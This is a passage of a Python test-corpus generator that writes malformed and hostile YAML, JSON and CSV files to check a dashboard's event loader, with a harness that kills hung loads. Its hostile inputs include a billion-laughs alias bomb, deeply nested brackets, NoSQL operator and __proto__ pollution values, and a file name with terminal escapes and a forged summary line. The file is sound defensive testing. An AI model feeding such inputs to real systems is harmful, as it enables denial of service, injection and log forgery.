    return records[: broken + 1] + tuple(
        Record(record.fate, None, None, record.record_id, record.field) for record in records[broken + 1 :]
    )


@_entry("json/raw-controls.json")
def _json_raw_controls(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    record = entry.record((("title",), "CONTROL"))
    entry.add(Raw(_json_item(record).replace('"CONTROL"', '"before\x1bafter"')), REJECT, record_id=record["id"])
    entry.add(entry.record(), EITHER)
    text, records = entry.json()
    return _encoded(text), Expectation(
        "a raw ESC inside a JSON string (JSON does not allow it)", _unread_after_break(records)
    )


@_entry("json/oddities.json")
def _json_oddities(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    record = entry.record((("title",), "SURROGATE"))
    entry.add(Raw(_json_item(record).replace('"SURROGATE"', '"\\ud800 alone"')), EITHER, record_id=record["id"])
    record = entry.record((("title",), "TWICE"))
    entry.add(Raw(_json_item(record).replace('"title": "TWICE"', '"title": "first", "title": "second"')), EITHER)
    entry.changed(("location", "lat"), Raw("-0"), LOAD)
    entry.changed(("location", "lat"), "53.1424", EITHER)
    entry.changed(("title",), "byte-order mark \ufeff inside", LOAD)
    entry.changed(("sources", 0, "title"), {"$ne": 1}, REJECT)
    entry.add(entry.record() | {"__proto__": {"polluted": True}, "constructor": {"prototype": 1}}, LOAD)
    entry.valid()
    text, records = entry.json()
    return _encoded(text), Expectation(
        "a lone surrogate, duplicate keys, -0, numbers as text, a BOM inside text, query operators, __proto__",
        records,
    )


@_entry("json/events-document.json")
def _events_document(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    entry.changed(("location", "lat"), 200.0, REJECT)
    entry.valid()
    text, records = entry.json()
    text = '{"title": "export", "count": 3, "events": ' + text.rstrip("\n") + "}\n"
    return _encoded(text), Expectation("the dashboard's JSON export form ({'events': [...]}), one rejected", records)


@_entry("json/single-line.json")
def _single_line(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    entry.changed(("location", "lat"), 200.0, REJECT)
    entry.valid()
    text, records = entry.json(single_line=True)
    return _encoded(text), Expectation("three records on one line, the middle one rejected", records)


@_entry("json/concatenated-arrays.json")
def _concatenated(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    first, second = entry.record(), entry.record()
    text = json.dumps([first]) + "\n" + json.dumps([second]) + "\n"
    records = (Record(LOAD, 1, 1, first["id"]), Record(EITHER, None, None, second["id"]))
    return _encoded(text), Expectation("two JSON arrays one after the other", records, reported=True)


@_entry("json/comments.json")
def _json_comments(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    entry.valid()
    text, _ = entry.json()
    text = "// exported by hand\n" + text
    return _encoded(text), Expectation("a // comment before the array", (Record(EITHER), Record(EITHER)), reported=True)


@_entry("json/trailing-comma.json")
def _trailing_comma(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    entry.valid()
    text, records = entry.json()
    text = text.replace("\n]\n", ",\n]\n")
    return _encoded(text), Expectation("a comma after the last record", records, reported=True)


# CSV oddities.
def _two_valid(name: str, fmt: str) -> tuple[str, tuple[Record, ...]]:
    entry = _Entry(name)
    entry.valid()
    entry.valid()
    return _written(entry, fmt)


def _csv_with_row(
    name: str, line_of: Callable[[list[str], list[str]], str], fate: str, what: str
) -> tuple[bytes, Expectation]:
    """Two valid rows with an odd one between them, written by ``line_of(columns, cells)``."""
    entry = _Entry(name)
    entry.valid()
    odd = entry.record()
    entry.valid()
    text, records = entry.csv()
    lines = text.splitlines(keepends=True)
    columns = lines[0].rstrip("\n").split(",")
    lines.insert(2, line_of(columns, [flat_row(odd).get(column, "") for column in columns]))
    odd_record = Record(fate, 3, 3, odd["id"] if fate != REJECT else None)
    return _encoded("".join(lines)), Expectation(
        what, (records[0], odd_record, Record(LOAD, 4, 4, records[1].record_id))
    )


def _title_replaced(columns: list[str], cells: list[str], title: str) -> list[str]:
    return [title if column == "title" else cell for column, cell in zip(columns, cells, strict=True)]


@_entry("csv/extra-field.csv")
def _extra_field(name: str) -> tuple[bytes, Expectation]:
    return _csv_with_row(
        name, lambda columns, cells: csv_line([*cells, "one too many"]), REJECT, "a row with one field too many"
    )


@_entry("csv/stray-quote.csv")
def _stray_quote(name: str) -> tuple[bytes, Expectation]:
    def line_of(columns: list[str], cells: list[str]) -> str:
        return ",".join(_title_replaced(columns, cells, '"a quote that never closes')) + "\n"

    data, expectation = _csv_with_row(name, line_of, EITHER, "a field opening a quote it never closes")
    first, middle, later = expectation.records
    records = (first, Record(EITHER, None, None, middle.record_id), Record(EITHER, None, None, later.record_id))
    return data, Expectation(expectation.what, records, reported=True)


@_entry("csv/raw-nul.csv")
def _raw_nul(name: str) -> tuple[bytes, Expectation]:
    return _csv_with_row(
        name,
        lambda columns, cells: csv_line(_title_replaced(columns, cells, "before\x00after")),
        EITHER,
        "a raw NUL byte inside a field",
    )


@_entry("csv/semicolons.csv")
def _semicolons(name: str) -> tuple[bytes, Expectation]:
    text, _ = _two_valid(name, "csv")
    return _encoded(text.replace(",", ";")), Expectation("';' instead of ',' between fields", loaded=0, reported=True)


@_entry("csv/duplicate-columns.csv")
def _duplicate_columns(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    entry.valid()
    text, records = entry.csv()
    lines = text.splitlines(keepends=True)
    lines = [lines[0].rstrip("\n") + ",title\n"] + [line.rstrip("\n") + ",second title\n" for line in lines[1:]]
    either = tuple(Record(EITHER, record.line, record.last_line, record.record_id) for record in records)
    return _encoded("".join(lines)), Expectation("the title column twice", either, reported=True)


@_entry("csv/quoted-line-breaks.csv")
def _quoted_line_breaks(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.changed(("summary",), "first\nsecond\nthird", LOAD)
    entry.changed(("location", "lat"), 200.0, REJECT)
    entry.changed(("title",), "windows\r\nline break", LOAD)
    entry.changed(("location", "lat"), -100.0, REJECT)
    entry.valid()
    text, records = entry.csv()
    return _encoded(text), Expectation("line breaks inside quoted fields, then rejected rows", records)


@_entry("csv/blank-rows.csv")
def _blank_rows(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    first, second = entry.record(), entry.record()
    entry.add(first, LOAD)
    entry.add(second, LOAD)
    text, records = entry.csv()
    lines = text.splitlines(keepends=True)
    width = lines[0].count(",")
    lines[2:2] = ["\n", "," * width + "\n", "   \n"]
    records = (records[0], Record(LOAD, 6, 6, second["id"]))
    return _encoded("".join(lines)), Expectation("blank rows, a row of commas, a row of spaces", records)


# Encodings.
def _garbage(size: int, seed: int = SEED) -> bytes:
    return np.random.default_rng(seed).integers(0, 256, size=size, dtype=np.uint8).tobytes()


for _name, _fmt in _formats("encoding/binary-garbage"):
    _entry(_name)(lambda name: (_garbage(64 * 1024), Expectation("64 KiB of random bytes", loaded=0, reported=True)))


for _name, _fmt in _formats("encoding/utf-16-bom"):
    _entry(_name)(
        lambda name, fmt=_fmt: (
            "\ufeff".encode("utf-16-le") + _two_valid(name, fmt)[0].encode("utf-16-le"),
            Expectation("two valid records in UTF-16 (little-endian, with a BOM)", (Record(EITHER), Record(EITHER))),
        )
    )
for _name, _fmt in _formats("encoding/utf-16-no-bom"):
    _entry(_name)(
        lambda name, fmt=_fmt: (
            _two_valid(name, fmt)[0].encode("utf-16-be"),
            Expectation("two valid records in UTF-16 (big-endian, no BOM)", (Record(EITHER), Record(EITHER))),
        )
    )


def _windows_1252(name: str, fmt: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    entry.changed(("title",), "Café “Kursk” – €100 naïve", REJECT)
    entry.valid()
    text, records = _written(entry, fmt)
    return text.encode("cp1252"), Expectation("a title in Windows-1252 bytes between UTF-8 records", records)


for _name, _fmt in _formats("encoding/windows-1252"):
    _entry(_name)(lambda name, fmt=_fmt: _windows_1252(name, fmt))


@_entry("encoding/invalid-utf-8.yaml")
def _invalid_utf8(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    bad = {b"\xc0\xaf": "OVERLONG", b"\xed\xa0\x80": "SURROGATE", b"\xe2\x82": "CUT", b"\xff\xfe": "FFFE"}
    for marker in bad.values():
        entry.valid()
        entry.changed(("title",), f"bad bytes {marker} here", REJECT)
    entry.valid()
    text, records = entry.yaml()
    data = text.encode("utf-8")
    for raw, marker in bad.items():
        data = data.replace(marker.encode(), raw)
    return data, Expectation("overlong, surrogate, cut and impossible UTF-8 sequences in titles", records)


for _name, _fmt in _formats("encoding/bom-only"):
    _entry(_name)(lambda name: (b"\xef\xbb\xbf", Expectation("only a UTF-8 byte-order mark", loaded=0, reported=True)))


@_entry("encoding/bom-twice.yaml")
def _bom_twice(name: str) -> tuple[bytes, Expectation]:
    text, _ = _two_valid(name, "yaml")
    return b"\xef\xbb\xbf" + _encoded("\ufeff" + text), Expectation(
        "two byte-order marks", (Record(EITHER), Record(EITHER))
    )


@_entry("encoding/utf-8-bom.csv")
def _utf8_bom_csv(name: str) -> tuple[bytes, Expectation]:
    text, records = _two_valid(name, "csv")
    return _encoded("\ufeff" + text), Expectation("valid CSV with a UTF-8 byte-order mark", records, reported=False)


# Empty files.
_EMPTY = {
    "empty/empty.yaml": (b"", True),
    "empty/empty.json": (b"", True),
    "empty/empty.csv": (b"", True),
    "empty/whitespace.yaml": (b" \n\t\r\n  \n", True),
    "empty/whitespace.json": (b" \n\t\r\n  \n", True),
    "empty/whitespace.csv": (b" \n\t\r\n  \n", True),
    "empty/empty-list.yaml": (b"[]\n", True),
    "empty/document-markers.yaml": (b"---\n...\n", True),
    "empty/null.yaml": (b"~\n", True),
    "empty/comments-only.yaml": (b"# nothing here\n# at all\n", True),
    "empty/empty-array.json": (b"[]", True),
    "empty/empty-object.json": (b"{}", True),
    "empty/null.json": (b"null", True),
    "empty/string.json": (b'"just text"', True),
    "empty/number.json": (b"42", True),
    "empty/header-only.csv": (b"id,title,summary\n", None),
    "empty/header-and-blank-lines.csv": (b"id,title,summary\n\n\n\n", None),
}
for _name, (_data, _reported) in _EMPTY.items():
    _entry(_name)(
        lambda name, data=_data, reported=_reported: (
            data,
            Expectation(f"no records: {data[:20]!r}", loaded=0, reported=reported),
        )
    )


# Line endings: CRLF, lone CR, a mix; line numbers count every kind of line break.
def _line_endings(name: str, fmt: str, endings: Sequence[str]) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    entry.changed(("location", "lat"), 200.0, REJECT)
    entry.valid()
    if fmt == "csv":  # a line break inside a quoted field (YAML would write it as a blank line)
        entry.changed(("summary",), "several\nlines\nof summary", LOAD)
    entry.changed(("location", "lon"), 500.0, REJECT)
    text, records = _written(entry, fmt)
    pieces = text.split("\n")
    text = "".join(piece + endings[number % len(endings)] for number, piece in enumerate(pieces[:-1])) + pieces[-1]
    what = "line endings " + " and ".join(repr(ending) for ending in endings)
    return _encoded(text), Expectation(what, records, exportable=fmt == "yaml")


for _stem, _endings in (("crlf", ["\r\n"]), ("cr", ["\r"]), ("mixed", ["\n", "\r\n", "\r"])):
    for _name, _fmt in _formats(f"line-endings/{_stem}"):
        _entry(_name)(lambda name, fmt=_fmt, endings=_endings: _line_endings(name, fmt, endings))


# Duplicate ids, across files and in one file.
def _duplicate_across(name: str, fmt: str, others: int) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.add(entry.record((("id",), DUPLICATE_ID)), LOAD)
    for _ in range(others):
        entry.valid()
    text, records = _written(entry, fmt)
    return _encoded(text), Expectation(f"id {DUPLICATE_ID!r}, which two other files use too", records)


_entry("duplicates/first.yaml")(lambda name: _duplicate_across(name, "yaml", 1))
_entry("duplicates/second.json")(lambda name: _duplicate_across(name, "json", 0))
_entry("duplicates/third.csv")(lambda name: _duplicate_across(name, "csv", 1))


def _duplicate_in_file(name: str, fmt: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    first = entry.valid()
    entry.add(_with(first, ("title",), "the same id again"), REJECT, "id", record_id=None)
    entry.valid()
    text, records = _written(entry, fmt)
    return _encoded(text), Expectation("the same id twice in one file", records)


for _name, _fmt in _formats("duplicates/same-file"):
    _entry(_name)(lambda name, fmt=_fmt: _duplicate_in_file(name, fmt))


# Truncated files: the last record cut in the middle.
_TRUNCATED_SUMMARY = 'He said "tab\there", then left'


def _truncated(name: str, fmt: str, cut: Callable[[str], int]) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    entry.valid()
    entry.changed(("summary",), _TRUNCATED_SUMMARY, REJECT, "")
    text, records = _written(entry, fmt)
    return _encoded(text[: cut(text)]), Expectation(f"the last record cut in the middle ({fmt.upper()})", records)


def _inside_summary(text: str) -> int:
    return text.index("He said") + 5


_entry("truncated/inside-a-string.yaml")(lambda name: _truncated(name, "yaml", _inside_summary))
_entry("truncated/inside-a-record.json")(lambda name: _truncated(name, "json", _inside_summary))
_entry("truncated/inside-quotes.csv")(lambda name: _truncated(name, "csv", _inside_summary))
_entry("truncated/mid-row.csv")(lambda name: _truncated(name, "csv", lambda text: text.index('"He said')))


@_entry("truncated/inside-a-character.yaml")
def _truncated_character(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    entry.valid()
    last = entry.record()
    last = {key: value for key, value in last.items() if key != "title"} | {"title": "ends in an emoji 💥"}
    entry.add(last, REJECT)
    text, records = entry.yaml()
    data = _encoded(text.rstrip("\n"))
    return data[:-2], Expectation("the file ends two bytes into a four-byte character", records)


# Hostile file names: control characters, a forged summary line, bytes that are not UTF-8.
# Entries that bring lone surrogates into the text (a JSON escape, a file name): kept apart from the exports and
# pages of the other hostile text, so a failure to handle them does not hide the rest.
SURROGATE_ENTRIES = ["json/oddities.json", "names/latin-1-\udce9t\udce9.yaml"]
HOSTILE_NAMES = [
    "names/evil-\x1b[31m-\u202e-\n99 read, 99 loaded, 0 rejected.yaml",
    SURROGATE_ENTRIES[1],  # the byte 0xE9 alone is not UTF-8; Python shows it as a lone surrogate
]


def _named(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    entry.changed(("location", "lat"), 200.0, REJECT)
    text, records = entry.yaml()
    what = "a file name with control characters or bytes that are not UTF-8"
    return _encoded(text), Expectation(what, records, exportable=name not in SURROGATE_ENTRIES)


for _name in HOSTILE_NAMES:
    _entry(_name)(_named)


# Pathological: nesting that recursive parsers cannot survive, an alias bomb, 100,000 columns.
DEEP = 100_000
DEEP_MAPPINGS = 10_000


@_entry(f"{PATHOLOGICAL_DIR}/deep-brackets.json")
def _deep_json(name: str) -> tuple[bytes, Expectation]:
    return ("[" * DEEP + "]" * DEEP + "\n").encode(), Expectation(f"{DEEP:,} nested [", loaded=0, reported=True)


@_entry(f"{PATHOLOGICAL_DIR}/deep-brackets.yaml")
def _deep_yaml(name: str) -> tuple[bytes, Expectation]:
    return ("[" * DEEP + "]" * DEEP + "\n").encode(), Expectation(f"{DEEP:,} nested [", loaded=0, reported=True)


@_entry(f"{PATHOLOGICAL_DIR}/deep-brackets-unclosed.json")
def _deep_unclosed_json(name: str) -> tuple[bytes, Expectation]:
    return ("[" * DEEP).encode(), Expectation(f"{DEEP:,} [ never closed", loaded=0, reported=True)


@_entry(f"{PATHOLOGICAL_DIR}/deep-brackets-unclosed.yaml")
def _deep_unclosed_yaml(name: str) -> tuple[bytes, Expectation]:
    return ("[" * DEEP).encode(), Expectation(f"{DEEP:,} [ never closed", loaded=0, reported=True)


def _deep_in_record(name: str, fmt: str, nested: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    record = entry.record((("title",), "DEEP"))
    if fmt == "json":
        entry.add(Raw(_json_item(record).replace('"DEEP"', nested)), REJECT, record_id=record["id"])
    else:
        entry.add(_yaml_with(record, "title: DEEP", f"title: {nested}"), REJECT, record_id=record["id"])
    entry.add(entry.record(), EITHER if fmt == "json" else LOAD)
    text, records = _written(entry, fmt)
    if fmt == "json":
        records = _unread_after_break(records)
    return _encoded(text), Expectation("a record nested far too deeply between valid ones", records, seconds=20)


_BRACKETS = "[" * DEEP + "]" * DEEP
_entry(f"{PATHOLOGICAL_DIR}/deep-brackets-in-record.json")(lambda name: _deep_in_record(name, "json", _BRACKETS))
_entry(f"{PATHOLOGICAL_DIR}/deep-brackets-in-record.yaml")(lambda name: _deep_in_record(name, "yaml", _BRACKETS))
_entry(f"{PATHOLOGICAL_DIR}/deep-mappings.json")(
    lambda name: _deep_in_record(name, "json", '{"a": ' * DEEP_MAPPINGS + '"x"' + "}" * DEEP_MAPPINGS)
)
_entry(f"{PATHOLOGICAL_DIR}/deep-mappings.yaml")(
    lambda name: _deep_in_record(name, "yaml", "{a: " * DEEP_MAPPINGS + "x" + "}" * DEEP_MAPPINGS)
)


@_entry(f"{PATHOLOGICAL_DIR}/deep-block-sequences.yaml")
def _deep_block_sequences(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    entry.add(Raw("- " * DEEP_MAPPINGS + "x\n"), REJECT)
    entry.valid()
    text, records = entry.yaml()
    return _encoded(text), Expectation(f"an item of {DEEP_MAPPINGS:,} nested block lists on one line", records)


def _laughs(indent: str) -> str:
    lines = [f'{indent}lol0: &l0 "lol"']
    lines += [f"{indent}lol{level}: &l{level} [{', '.join([f'*l{level - 1}'] * 10)}]" for level in range(1, 10)]
    return "\n".join(lines) + "\n"


@_entry(f"{PATHOLOGICAL_DIR}/alias-bomb.yaml")
def _alias_bomb(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    bomb = entry.record()
    entry.add(Raw(_yaml_item(bomb) + _laughs("  ")), REJECT, record_id=bomb["id"])
    entry.valid()
    text, records = entry.yaml()
    return _encoded(text), Expectation("a billion laughs (10^9 'lol's by aliases) in a record", records)


@_entry(f"{PATHOLOGICAL_DIR}/alias-bomb-document.yaml")
def _alias_bomb_document(name: str) -> tuple[bytes, Expectation]:
    return _encoded(_laughs("")), Expectation("a billion laughs as the whole document", loaded=0, reported=True)


@_entry(f"{PATHOLOGICAL_DIR}/columns-100k.csv")
def _wide_csv(name: str) -> tuple[bytes, Expectation]:
    entry = _Entry(name)
    entry.valid()
    entry.changed(("location", "lat"), 200.0, REJECT)
    text, records = entry.csv()
    header, *rows = text.splitlines()
    extra = [f"extra{number}" for number in range(DEEP)]
    text = ",".join([header, *extra]) + "\n" + "".join(row + "," * len(extra) + "\n" for row in rows)
    either = tuple(Record(EITHER, None, None, record.record_id) for record in records)
    what = f"a header of {DEEP:,} unknown columns: the rows may load, or the file be refused for its header"
    return _encoded(text), Expectation(what, either, reported=True, seconds=30)


@_entry(f"{SLOW_DIR}/garbage-line-50mb.csv")
def _garbage_line(name: str) -> tuple[bytes, Expectation]:
    printable = np.random.default_rng(SEED).integers(32, 127, size=50 * 2**20, dtype=np.uint8)
    return printable.tobytes(), Expectation(
        "50 MB of printable garbage on one line", loaded=0, reported=True, seconds=60
    )


def records_text(fmt: str, records: Sequence[tuple[object, str]]) -> tuple[str, tuple[Record, ...]]:
    """``(value, fate)`` records written as one YAML, JSON or CSV file, with where each one is written."""
    entry = _Entry("records")
    for value, fate in records:
        entry.add(value, fate)
    return _written(entry, fmt)


# --- writing the corpus -------------------------------------------------------------------------------------


def entry_names(slow: bool = True) -> list[str]:
    return [name for name in ENTRIES if slow or not is_slow(name)]


def write_corpus(
    folder: str | Path, *, slow: bool = True, names: Sequence[str] | None = None
) -> dict[str, Expectation]:
    """Write the corpus (or the entries ``names``) below ``folder``; returns what each entry expects."""
    folder = Path(folder)
    expectations: dict[str, Expectation] = {}
    for name in names if names is not None else entry_names(slow):
        data, expectation = ENTRIES[name](name)
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        expectations[name] = expectation
    return expectations


# --- what every load must satisfy ---------------------------------------------------------------------------


def load_report(paths: Sequence[str | Path]) -> dict:
    """Load ``paths`` and describe the outcome as plain data (JSON-able), with the seconds it took."""
    import pandas as pd

    from dashboard.loading.loader import load_events

    started, cpu_started = time.perf_counter(), time.process_time()
    result = load_events([Path(path) for path in paths])
    seconds, cpu_seconds = time.perf_counter() - started, time.process_time() - cpu_started
    events = result.events
    return {
        "read": result.read,
        "loaded": result.loaded,
        "rejected": result.rejected,
        "seconds": seconds,
        "cpu_seconds": cpu_seconds,
        "files": [vars(count) for count in result.files],
        "problems": [
            {
                "file": problem.file,
                "line": problem.line,
                "record_id": problem.record_id,
                "field": problem.field,
                "severity": str(problem.severity),
                "message": problem.message,
            }
            for problem in result.problems
        ],
        "events": [
            {
                "id": str(event_id),
                "file": str(record_file),
                "line": None if pd.isna(line) else int(line),
                "latitude": float(latitude),
                "longitude": float(longitude),
                "date_start": None if pd.isna(date_start) else str(date_start),
            }
            for event_id, record_file, line, latitude, longitude, date_start in zip(
                events["id"],
                events["record_file"],
                events["record_line"].tolist(),
                events["latitude"],
                events["longitude"],
                events["date_start"],
                strict=True,
            )
        ],
    }


def report_each(limits: dict[str, float]) -> dict[str, dict]:
    """Load each path of ``limits`` alone in a forked child, killed after its seconds (wall clock): a crash, a
    hang or a memory bomb costs only that file. Each result is ``{"report": ...}`` or ``{"failure": "..."}``."""
    results: dict[str, dict] = {}
    with tempfile.TemporaryDirectory() as scratch:
        for number, (path, seconds) in enumerate(limits.items()):
            out = Path(scratch) / f"{number}.json"
            pid = os.fork()
            if pid == 0:  # the child: load, write the outcome, leave without running any cleanup
                try:
                    outcome = {"report": load_report([path])}
                except BaseException:  # every failure is the outcome to report
                    outcome = {"failure": traceback.format_exc()}
                out.write_text(json.dumps(outcome))
                os._exit(0)
            results[path] = _wait_for(pid, out, seconds)
    return results


def _wait_for(pid: int, out: Path, seconds: float) -> dict:
    deadline = time.monotonic() + seconds
    while True:
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            break
        if time.monotonic() > deadline:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
            return {"failure": f"still loading after {seconds:g} s: killed"}
        time.sleep(0.005)
    if os.WIFSIGNALED(status):
        return {"failure": f"the loading process died of signal {signal.Signals(os.WTERMSIG(status)).name}"}
    if not out.is_file():
        return {"failure": f"the loading process exited with status {os.WEXITSTATUS(status)} and no outcome"}
    return json.loads(out.read_text())


def invariant_violations(report: dict, files: Sequence[str]) -> list[str]:
    """What is wrong with a load of ``files`` (as the loader names them) whatever they hold: the counts add up,
    every file is counted, every problem names a file (and its line and field when a record is at fault),
    every rejected record has an error (or an error about its whole file), and what loaded has real coordinates
    and dates."""
    wrong: list[str] = []
    if report["read"] != report["loaded"] + report["rejected"]:
        wrong.append(f"read {report['read']} != loaded {report['loaded']} + rejected {report['rejected']}")
    counted = [count["file"] for count in report["files"]]
    if sorted(counted) != sorted(files):
        wrong.append(f"files counted {sorted(map(ascii, counted))} are not the files read {sorted(map(ascii, files))}")
    loaded_per_file: dict[str, int] = {}
    for event in report["events"]:
        loaded_per_file[event["file"]] = loaded_per_file.get(event["file"], 0) + 1
    for count in report["files"]:
        name = ascii(count["file"])
        if count["read"] != count["loaded"] + count["rejected"]:
            wrong.append(f"{name}: read {count['read']} != loaded {count['loaded']} + rejected {count['rejected']}")
        if count["loaded"] != loaded_per_file.get(count["file"], 0):
            wrong.append(f"{name}: counted {count['loaded']} loaded, {loaded_per_file.get(count['file'], 0)} events")
        errors = [p for p in report["problems"] if p["file"] == count["file"] and p["severity"] == "error"]
        about_the_file = [p for p in errors if p["line"] is None and p["record_id"] is None]
        if len(errors) < count["rejected"] and not about_the_file:
            wrong.append(f"{name}: {count['rejected']} records rejected but only {len(errors)} errors")
    if sum(count["loaded"] for count in report["files"]) != report["loaded"]:
        wrong.append("loaded per file does not add up to loaded")
    for problem in report["problems"]:
        where = f"{problem['file']!a}:{problem['line']}: {brief(problem['message'])}"
        if problem["file"] not in files:
            wrong.append(f"problem names no file that was read: {where}")
        if (problem["record_id"] or problem["field"]) and problem["line"] is None:
            wrong.append(f"problem about a record has no line: {where}")
        if problem["record_id"] and not problem["field"]:
            wrong.append(f"problem about a record has no field: {where}")
        if problem["severity"] not in ("error", "warning") or not problem["message"].strip():
            wrong.append(f"problem without a severity or a message: {where}")
    for event in report["events"]:
        latitude, longitude = event["latitude"], event["longitude"]
        if not (math.isfinite(latitude) and math.isfinite(longitude) and abs(latitude) <= 90 and abs(longitude) <= 180):
            wrong.append(f"event {brief(event['id'])} loaded with coordinates ({latitude}, {longitude})")
        if event["date_start"] is None:
            wrong.append(f"event {brief(event['id'])} loaded without a start date")
    return wrong


def _field_matches(problem_field: str | None, expected: str) -> bool:
    if not expected:
        return True
    return problem_field is not None and (
        problem_field == expected or problem_field.startswith((expected + ".", expected + "[", expected + "/"))
    )


def in_span(line: int | None, record: Record) -> bool:
    """Whether ``line`` is one of the lines ``record`` is written on."""
    return line is not None and record.line is not None and record.line <= line <= (record.last_line or record.line)


def expectation_violations(report: dict, shown: str, expectation: Expectation, together: bool = False) -> list[str]:
    """What in ``report`` goes against what the entry expects of file ``shown`` (at most `SHOWN` records)."""
    wrong: list[str] = []
    counts = [count for count in report["files"] if count["file"] == shown]
    if len(counts) != 1:
        return [f"the file is counted {len(counts)} times"]
    count = counts[0]
    problems = [problem for problem in report["problems"] if problem["file"] == shown]
    errors = [problem for problem in problems if problem["severity"] == "error"]
    events = [event for event in report["events"] if event["file"] == shown]
    low, high = expectation.loaded_range
    if together:  # a record using the id of another file's record loads in one of them only
        low -= sum(record.record_id == DUPLICATE_ID for record in expectation.records)
    if not low <= count["loaded"] <= high:
        wrong.append(f"{count['loaded']} records loaded, expected {low}" + (f" to {high}" if high != low else ""))
        wrong += [f"error about the whole file: {brief(p['message'], 600)}" for p in errors if p["line"] is None]
    if expectation.must_report and not problems:
        wrong.append("no problem names the file")
    if expectation.must_report is False and problems:
        wrong.append(f"problems where none were expected: {[brief(p['message']) for p in problems]}")
    if expectation.records and count["loaded"] < len(expectation.records) and not errors:
        wrong.append("records did not load, and no error says why")
    about_records = []
    for record in expectation.records:
        if not (together and record.record_id == DUPLICATE_ID):
            about_records += _record_violations(record, events, errors)
    if len(about_records) > SHOWN:
        about_records[SHOWN:] = [f"... and {len(about_records) - SHOWN} more records not as expected"]
    return wrong + about_records


SHOWN = 12


def _record_violations(record: Record, events: list[dict], errors: list[dict]) -> list[str]:
    if record.record_id is not None:
        loaded = [event for event in events if event["id"] == record.record_id]
    else:
        loaded = [event for event in events if in_span(event["line"], record)]
    located = [problem for problem in errors if in_span(problem["line"], record)]
    label = f"record at line {record.line}" + (f" ({brief(record.record_id, 60)})" if record.record_id else "")
    span = f"{record.line}-{record.last_line}"
    if record.fate == LOAD and not loaded:
        why = [brief(problem["message"], 120) for problem in located] or "no error at its lines"
        return [f"{label} should load but did not: {why}"]
    if record.fate == LOAD and record.line is not None and not in_span(loaded[0]["line"], record):
        return [f"{label} loaded with record_line {loaded[0]['line']}, not {span}"]
    if record.fate == REJECT and loaded:
        return [f"{label} should be rejected ({record.field or 'the record'}) but loaded"]
    if (
        record.fate == REJECT
        and record.line is not None
        and not any(_field_matches(problem["field"], record.field) for problem in located)
    ):
        found = [(problem["line"], problem["field"], brief(problem["message"], 70)) for problem in located or errors]
        return [f"{label}: no error on field {record.field or '(any)'!r} at lines {span}; errors: {found[:4]}"]
    if record.fate == EITHER and not loaded and record.line is not None and not located:
        return [f"{label} did not load, and no error points to lines {span}"]
    return []


def brief(value: object, limit: int = 160) -> str:
    """``value`` for a failure message: escaped (no control characters) and cut to ``limit`` characters."""
    text = ascii(value) if not isinstance(value, str) else value.encode("unicode_escape").decode("ascii")
    return text if len(text) <= limit else text[: limit - 1] + "…"


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", nargs="?", help="folder to write the corpus into")
    parser.add_argument("--no-slow", action="store_true", help=f"leave out the large entries under {SLOW_DIR}/")
    parser.add_argument("--report", nargs="+", metavar="PATH", help="load PATH ... and print the outcome as JSON")
    parser.add_argument(
        "--report-each",
        metavar="JSON",
        help='load each file of {"PATH": SECONDS, ...} alone, in a child killed after SECONDS; print the outcomes',
    )
    args = parser.parse_args(argv)
    if args.report:
        print(json.dumps(load_report(args.report)))
        return 0
    if args.report_each:
        print(json.dumps(report_each(json.loads(args.report_each))))
        return 0
    if not args.out:
        parser.error("name the folder to write the corpus into")
    expectations = write_corpus(args.out, slow=not args.no_slow)
    for name, expectation in expectations.items():
        low, high = expectation.loaded_range
        loads = f"{low}" if low == high else f"{low}-{high}"
        print(f"{brief(name, 60):60} loads {loads:>5}  {expectation.what}")
    print(f"{len(expectations)} files written to {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
